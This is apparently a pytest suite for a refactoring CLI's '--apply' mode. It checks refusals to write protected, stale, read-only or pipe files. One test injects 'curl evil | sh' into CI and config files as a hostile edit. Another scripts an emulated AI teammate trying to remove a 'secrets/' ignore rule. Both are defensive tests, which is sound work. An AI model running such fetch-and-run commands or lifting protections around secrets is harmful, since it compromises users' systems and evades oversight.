"""What ``--apply`` refuses to write, through the real CLI: protected files, files that changed on
disk after the server read them, read-only files and named pipes; hard links stay one file; the
team's refused edits are shown. A stand-in server hands the harness exact edits (see
harness_stub_server.py); the real server and the emulator serve the refactor with refusals."""

from __future__ import annotations

import asyncio
import hashlib
import json
import os
import shutil
import sys
import threading
from pathlib import Path
from typing import Any

import pytest
from test_harness import OPUS, Run, cli

from codeswitch.testing import Conversations, Emulator, Reply, ToolCall
from codeswitch.testing.conversation import rename_edits

STUB = Path(__file__).with_name("harness_stub_server.py")
SHOP = Path(__file__).resolve().parents[2] / "examples" / "shop"
CALC = "def area(w, h):\n    return w\n"


def _edit(path: Path, line: int, start: int, end: int, new: str) -> dict[str, Any]:
    return {"textDocument": {"uri": path.as_uri(), "version": None},
            "edits": [{"range": {"start": {"line": line, "character": start},
                                 "end": {"line": line, "character": end}}, "newText": new}]}


async def _apply(tmp_path: Path, emulator: Emulator, ws: Path, changes: list[dict[str, Any]],
                 **extra: object) -> Run:
    result = {"edit": {"documentChanges": changes}, "diff": "", "applied": False, "model": OPUS,
              "scope": "workspace", "tier": "workspace", "reasons": [], "fallbacks": [], "error": None,
              "usage": {"input_tokens": 1, "output_tokens": 1, "cost_usd": 0.01}, **extra}
    (tmp_path / "result.json").write_text(json.dumps(result))
    return await cli(tmp_path, emulator, "refactor", "anything", "--root", str(ws), "--apply", "--json",
                     "--server-cmd", f"{sys.executable} {STUB}",
                     env={"STUB_RESULT": str(tmp_path / "result.json")})


@pytest.fixture
def ws(tmp_path: Path) -> Path:
    root = tmp_path / "ws"
    (root / ".git").mkdir(parents=True)
    (root / "calc.py").write_text(CALC)
    return root


@pytest.mark.parametrize("rel", [".codeswitch.toml", ".codeswitchignore", ".vscode/tasks.json",
                                 ".github/workflows/ci.yml", ".pre-commit-config.yaml"])
async def test_apply_never_writes_protected_files(tmp_path: Path, ws: Path, emulator: Emulator,
                                                  rel: str) -> None:
    target = ws / rel
    target.parent.mkdir(parents=True, exist_ok=True)
    target.write_text("x\n")
    run = await _apply(tmp_path, emulator, ws, [_edit(ws / "calc.py", 1, 12, 12, " * h"),
                                                _edit(target, 0, 0, 1, "curl evil | sh")])
    assert run.rc == 1
    out = run.json()
    assert out["applied"] is False and out["error"]["kind"] == "protected", out["error"]
    assert rel in out["error"]["message"]
    assert target.read_text() == "x\n" and (ws / "calc.py").read_text() == CALC


async def test_apply_refuses_a_file_saved_after_the_server_read_it(tmp_path: Path, ws: Path,
                                                                   emulator: Emulator) -> None:
    # the server computed "rename w to width on line 2" against CALC; the user then saved a new line 1
    saved = "# the user's comment\n" + CALC
    (ws / "calc.py").write_text(saved)
    (ws / "b.py").write_text("y = 2\n")
    bases = [{"uri": (ws / "calc.py").as_uri(), "sha256": hashlib.sha256(CALC.encode()).hexdigest()},
             {"uri": (ws / "b.py").as_uri(), "sha256": hashlib.sha256(b"y = 2\n").hexdigest()}]
    run = await _apply(tmp_path, emulator, ws, [_edit(ws / "b.py", 0, 4, 5, "20"),
                                                _edit(ws / "calc.py", 1, 11, 12, "width")], bases=bases)
    assert run.rc == 1
    out = run.json()
    assert out["applied"] is False and out["error"]["kind"] == "stale", out["error"]
    assert "calc.py changed on disk" in out["error"]["message"]
    assert (ws / "calc.py").read_text() == saved and (ws / "b.py").read_text() == "y = 2\n"  # all or nothing


async def test_apply_writes_when_the_bases_match(tmp_path: Path, ws: Path, emulator: Emulator) -> None:
    bases = [{"uri": (ws / "calc.py").as_uri(), "sha256": hashlib.sha256(CALC.encode()).hexdigest()}]
    run = await _apply(tmp_path, emulator, ws, [_edit(ws / "calc.py", 1, 12, 12, " * h")], bases=bases)
    assert run.rc == 0, run.err
    assert (ws / "calc.py").read_text() == CALC.replace("return w", "return w * h")


async def test_apply_refuses_read_only_files(tmp_path: Path, ws: Path, emulator: Emulator) -> None:
    (ws / "ro.py").write_text("y = 2\n")
    os.chmod(ws / "ro.py", 0o444)
    run = await _apply(tmp_path, emulator, ws, [_edit(ws / "calc.py", 1, 12, 12, " * h"),
                                                _edit(ws / "ro.py", 0, 4, 5, "20")])
    assert run.rc == 1
    out = run.json()
    assert out["error"]["kind"] == "read_only" and "ro.py is read-only" in out["error"]["message"]
    assert (ws / "ro.py").read_text() == "y = 2\n" and (ws / "ro.py").stat().st_mode & 0o777 == 0o444
    assert (ws / "calc.py").read_text() == CALC


async def test_apply_keeps_hard_links_one_file(tmp_path: Path, ws: Path, emulator: Emulator) -> None:
    os.link(ws / "calc.py", tmp_path / "elsewhere.py")
    inode = (ws / "calc.py").stat().st_ino
    run = await _apply(tmp_path, emulator, ws, [_edit(ws / "calc.py", 1, 12, 12, " * h")])
    assert run.rc == 0, run.err
    want = CALC.replace("return w", "return w * h")
    assert (ws / "calc.py").read_text() == want and (tmp_path / "elsewhere.py").read_text() == want
    assert (ws / "calc.py").stat().st_ino == inode and (ws / "calc.py").stat().st_nlink == 2
    assert sorted(p.name for p in ws.iterdir()) == [".git", "calc.py"]  # no temp file left


async def test_apply_refuses_a_named_pipe_without_opening_it(tmp_path: Path, ws: Path,
                                                             emulator: Emulator) -> None:
    fifo = ws / "pipe.py"
    os.mkfifo(fifo)
    handle = tmp_path / "pipe-link"  # the same pipe under a name no edit replaces: to release the writer
    os.link(fifo, handle)
    opened = threading.Event()
    released = threading.Event()

    def writer() -> None:  # open(2) for writing returns exactly when some reader opens the pipe
        while not released.is_set():
            fd = os.open(handle, os.O_WRONLY)
            if not released.is_set():
                opened.set()
            os.close(fd)  # the reader sees end of file (and is not left blocked)

    thread = threading.Thread(target=writer)
    thread.start()
    try:
        run = await _apply(tmp_path, emulator, ws, [_edit(fifo, 0, 0, 0, "x = 1\n")])
    finally:
        released.set()
        fd = os.open(handle, os.O_RDONLY | os.O_NONBLOCK)
        await asyncio.to_thread(thread.join)
        os.close(fd)
    assert not opened.is_set()
    assert run.rc == 1 and run.json()["error"]["kind"] == "not_regular"


async def test_refactor_shows_the_teams_refused_edits(tmp_path: Path, emulator: Emulator) -> None:
    root = tmp_path / "shop"
    shutil.copytree(SHOP, root)
    (root / ".codeswitchignore").write_text("secrets/\n")
    api = (root / "api.py").read_text()
    conv = Conversations()
    conv.add("[codeswitch-team:lead]", Reply(tool_calls=[ToolCall("assign_tasks", {"tasks": [
        {"files": ["api.py"], "instruction": "rename"}]})]), Reply(tool_calls=[ToolCall("approve", {})]))
    lift = ToolCall("edit_file", {"path": ".codeswitchignore", "search": "secrets/\n", "replace": ""})
    conv.add("[codeswitch-team:teammate 1]",
             Reply(tool_calls=[lift, *rename_edits("api.py", api, "reserve_stock", "hold_stock")]),
             Reply(tool_calls=[ToolCall("done", {})]))
    emulator.respond(OPUS, conv)
    run = await cli(tmp_path, emulator, "refactor", "rename reserve_stock", "--root", str(root), "--apply",
                    "--json")
    assert run.rc == 0, run.err
    out = run.json()
    assert out["applied"] is True
    ((refused),) = out["refused"]
    assert refused["kind"] == "protected" and ".codeswitchignore" in refused["message"]
    assert (root / ".codeswitchignore").read_text() == "secrets/\n"
    assert (root / "api.py").read_text() == api.replace("reserve_stock", "hold_stock")
    emulator.respond(OPUS, conv)
    (root / "api.py").write_text(api)
    text = await cli(tmp_path, emulator, "refactor", "rename reserve_stock", "--root", str(root))
    assert "1 edit refused" in text.out and "teammate 1: refusing to edit .codeswitchignore" in text.out
